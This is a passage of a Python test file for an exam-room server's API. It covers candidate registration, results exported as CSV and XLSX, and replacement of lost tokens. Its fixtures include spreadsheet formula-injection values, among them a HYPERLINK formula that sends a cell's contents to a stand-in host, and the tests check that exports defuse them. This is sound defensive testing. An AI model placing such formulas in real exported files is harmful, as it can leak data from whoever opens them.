            srv, "POST", f"/api/rooms/{rid}/candidates", "employee_id,name\nE3,Citra\nE1,Ani\n", ctype="text/csv"
        )
        reply.error(409, "duplicate_employee", employee_id="E1")
        assert candidates(srv, rid) == listed(made)
        reply = call(srv, "POST", f"/api/rooms/{rid}/candidates", "employee_id,name\nE3,Citra\n", ctype="text/csv")
        assert reply.status == 201
        assert sit(srv, made[0]["token"])["type"] == "finished"
        wait_disconnected(srv, made[0]["session_id"])
        assert call(srv, "GET", f"/api/rooms/{rid}").json["counts"] == {"finished": 1, "ready": 2}
        assert call(srv, "GET", f"/api/sessions/{made[1]['session_id']}").json["profile"] is None
        assert call(srv, "GET", f"/api/sessions/{made[0]['session_id']}").json["profile"]["complete"] is True
        rows = call(srv, "GET", f"/api/rooms/{rid}/results").json["results"]
        assert [(r["employee_id"], r["subtest"], r["status"]) for r in rows] == [
            ("E1", "s1", "finished"),
            ("E1", "s2", "finished"),
        ]
        assert all(list(r) == RESULT_COLUMNS for r in rows)
        table = list(csv.reader(io.StringIO(call(srv, "GET", f"/api/rooms/{rid}/results?format=csv").body.decode())))
        assert table[0] == RESULT_COLUMNS and len(table) == 3
        ack = call(srv, "POST", f"/api/rooms/{rid}/results/ack", {"session_ids": [made[0]["session_id"]]})
        assert ack.json == {"acknowledged": 1}
        call(srv, "GET", "/api/rooms/NOROOM").error(404, "not_found")
        call(srv, "GET", "/api/batteries", token="wrong").error(401, "unauthorized")
    finally:
        srv.stop()


# --- spreadsheet files: results and tokens (docs/protocol.md, "Spreadsheet files") ------------------------------

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = [
    ("+62811", '=HYPERLINK("http://x/?"&A1,"click")'),
    ("E-2", "Sari;=1+2"),
    ("@E3", "-2+3, S.Kom."),
]


@pytest.fixture(scope="module", params=["memory", "redis"])
def store_srv(
    request: pytest.FixtureRequest, app_server: Callable[..., AppServer], battery_path: Path
) -> Iterator[AppServer]:
    if request.param == "redis":
        redis: RedisServer = request.getfixturevalue("private_redis")
        prefix = f"t-admin-xlsx-{secrets.token_hex(4)}"
        settings = Settings(
            redis_url=redis.url, key_prefix=prefix, admin_token=ADMIN, demo_room=False, batteries=(battery_path,)
        )
    else:
        settings = Settings(admin_token=ADMIN, demo_room=False, batteries=(battery_path,))
    server = app_server(settings)
    assert server.hub.store.kind == request.param
    yield server
    server.stop()


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def xlsx_rows(reply: Reply) -> list[list[Any]]:
    """The rows of an XLSX reply's one sheet, after checking it holds no formula; every text cell typed as text."""
    import zipfile

    import openpyxl

    assert reply.status == 200, reply.body[:300]
    assert reply.headers["content-type"] == XLSX
    with zipfile.ZipFile(io.BytesIO(reply.body)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 1 and b"<f>" not in z.read(sheets[0]) and b"<f " not in z.read(sheets[0])
    ws = openpyxl.load_workbook(io.BytesIO(reply.body)).active
    assert ws is not None
    assert all(c.data_type == "s" for row in ws.iter_rows() for c in row if isinstance(c.value, str))
    return [[c.value for c in row] for row in ws.iter_rows()]


def test_results_files_are_safe_for_spreadsheets(store_srv: AppServer) -> None:
    room = new_room(store_srv)
    rid = room["room_id"]
    made = register(store_srv, rid, *HOSTILE)
    for cand in made:
        assert sit(store_srv, cand["token"])["type"] == "finished"
    # a proctor's incident note is typed by a person too (and written after the end: it joins the kept rows)
    note = {"type": "note", "session_id": made[0]["session_id"], "text": "=1+2 pindah meja\n-5 menit"}
    assert proctor(store_srv, room["proctor_token"], note)["results"] == [
        {"session_id": made[0]["session_id"], "ok": True}
    ]
    rows = call(store_srv, "GET", f"/api/rooms/{rid}/results").json["results"]
    assert [r["name"] for r in rows] == [name for _, name in HOSTILE for _ in range(2)]  # the JSON as typed
    assert [r["notes"] for r in rows] == ["=1+2 pindah meja\n-5 menit"] * 2 + [""] * 4

    text = call(store_srv, "GET", f"/api/rooms/{rid}/results?format=csv").body.decode()
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == RESULT_COLUMNS
    by_name = [(r[2], r[3]) for r in table[1::2]]
    assert by_name == [
        ("'+62811", '\'=HYPERLINK("http://x/?"&A1,"click")'),
        ("E-2", "Sari;'=1+2"),
        ("'@E3", "'-2+3, S.Kom."),
    ]
    notes = RESULT_COLUMNS.index("notes")
    assert [r[notes] for r in table[1:3]] == ["'=1+2 pindah meja\n'-5 menit"] * 2  # each line defused
    theta = RESULT_COLUMNS.index("theta")
    assert [float(r[theta]) for r in table[1:]] == [r["theta"] for r in rows]  # numbers as numbers, no quote mark
    for sep in (",", ";"):  # however the spreadsheet splits it, no cell but a number starts with = + - @
        starts = [c for line in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for c in line]
        starts = [c for c in starts if c.lstrip(' "')[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert all(is_number(c) for c in starts), starts

    reply = call(store_srv, "GET", f"/api/rooms/{rid}/results?format=xlsx")
    assert reply.headers["content-disposition"] == f'attachment; filename="results-{rid}.xlsx"'
    sheet = xlsx_rows(reply)
    assert tuple(sheet[0]) == tuple(RESULT_COLUMNS)
    # names and notes verbatim as text, numbers numbers (an empty text, no note, is an empty cell: XLSX has no other)
    assert sheet[1:] == [[None if r[c] == "" else r[c] for c in RESULT_COLUMNS] for r in rows]
    assert sheet[1][notes] == "=1+2 pindah meja\n-5 menit"
    as_proctor = call(store_srv, "GET", f"/api/rooms/{rid}/results?format=xlsx", token=room["proctor_token"])
    assert xlsx_rows(as_proctor) == sheet
    other = new_room(store_srv, "Ruang 2")
    reply = call(store_srv, "GET", f"/api/rooms/{rid}/results?format=xlsx", token=other["proctor_token"])
    reply.error(401, "unauthorized")
    call(store_srv, "GET", "/api/rooms/NOROOM/results?format=xlsx").error(404, "not_found")
    assert xlsx_rows(call(store_srv, "GET", f"/api/rooms/{other['room_id']}/results?format=xlsx")) == [RESULT_COLUMNS]


def test_a_table_exported_as_xlsx(srv: AppServer) -> None:
    body = {
        "filename": "tokens-R7K2PQ",
        "columns": ["employee_id", "name", "session_id", "token", "link"],
        "rows": [
            ["+62811", '=HYPERLINK("http://x/?"&A1,"click")', "R7K2PQ-0001", "ABCDEFGHJKMN", "http://x/#t=ABCD"],
            ["E2", "#N/A", "R7K2PQ-0002", None, -0.52],
        ],
    }
    reply = call(srv, "POST", "/api/export.xlsx", body)
    assert reply.headers["content-disposition"] == 'attachment; filename="tokens-R7K2PQ.xlsx"'
    assert xlsx_rows(reply) == [body["columns"], *body["rows"]]

    room = new_room(srv)
    for token in (None, ADMIN + "x", room["proctor_token"]):  # the admin's only
        call(srv, "POST", "/api/export.xlsx", body, token=token).error(401, "unauthorized")
    call(srv, "POST", "/api/export.xlsx", body | {"filename": 'x"; y'}).error(400, "bad_request")
    call(srv, "POST", "/api/export.xlsx", body | {"rows": [["only one"]]}).error(400, "bad_request")
    call(srv, "POST", "/api/export.xlsx", body | {"rows": [["x"] * 5] * 5001}).error(400, "bad_request")
    assert len(xlsx_rows(call(srv, "POST", "/api/export.xlsx", body | {"rows": [["x"] * 5] * 5000}))) == 5001
    call(srv, "POST", "/api/export.xlsx", b"{", ctype="application/json").error(400, "bad_request")
    huge = body | {"rows": [["x" * 200] * 5] * 1100}  # within the row limit, over the 1 MiB body limit
    call(srv, "POST", "/api/export.xlsx", huge).error(413, "too_large")


# --- lost tokens ---------------------------------------------------------------------------------------------------


def test_a_lost_candidate_token_is_replaced_over_http(store_srv: AppServer) -> None:
    """POST /api/rooms/{id}/tokens: a new token that works; the old one is refused; nothing else changes."""
    rid = new_room(store_srv)["room_id"]
    a, b = register(store_srv, rid, ("E1", "Ani"), ("E2", "Budi"))
    reply = call(store_srv, "POST", f"/api/rooms/{rid}/tokens", {"session_ids": [a["session_id"]]})
    assert reply.status == 200, reply.body
    [new] = reply.json["candidates"]
    assert {k: new[k] for k in ("employee_id", "name", "session_id")} == listed([a])[0]
    assert new["token"] != a["token"]
    assert sit(store_srv, a["token"])["code"] == "bad_token"
    assert sit(store_srv, new["token"], answers=0)["type"] == "item"
    assert sit(store_srv, b["token"], answers=0)["type"] == "item"  # the other keeps hers
    assert candidates(store_srv, rid) == listed([a, b])
    # refused whole: a session of no room, a malformed id, a foreign room's session; and for a proctor
    other = new_room(store_srv, "Ruang 2")["room_id"]
    [c] = register(store_srv, other, ("E3", "Citra"))
    for ids, status, code in (
        ([f"{rid}-0099"], 404, "not_found"),
        (["nonsense"], 404, "not_found"),
        ([c["session_id"]], 400, "bad_request"),
        ([], 400, "bad_request"),
    ):
        call(store_srv, "POST", f"/api/rooms/{rid}/tokens", {"session_ids": ids}).error(status, code)
    assert sit(store_srv, c["token"], answers=0)["type"] == "item"
    room = new_room(store_srv, "Ruang 3")
    call(
        store_srv, "POST", f"/api/rooms/{rid}/tokens", {"session_ids": [b["session_id"]]}, token=room["proctor_token"]
    ).error(401, "unauthorized")


def test_a_lost_proctor_token_is_replaced_over_http(store_srv: AppServer) -> None:
    room = new_room(store_srv)
    rid = room["room_id"]
    reply = call(store_srv, "POST", f"/api/rooms/{rid}/proctor-token")
    assert reply.status == 200 and set(reply.json) == {"room_id", "proctor_token"}, reply.body
    new = reply.json["proctor_token"]
    assert new != room["proctor_token"]
    results = f"/api/rooms/{rid}/results"
    call(store_srv, "GET", results, token=room["proctor_token"]).error(401, "unauthorized")
    assert call(store_srv, "GET", results, token=new).status == 200
    call(store_srv, "POST", "/api/rooms/ZZZZZZ/proctor-token").error(404, "not_found")
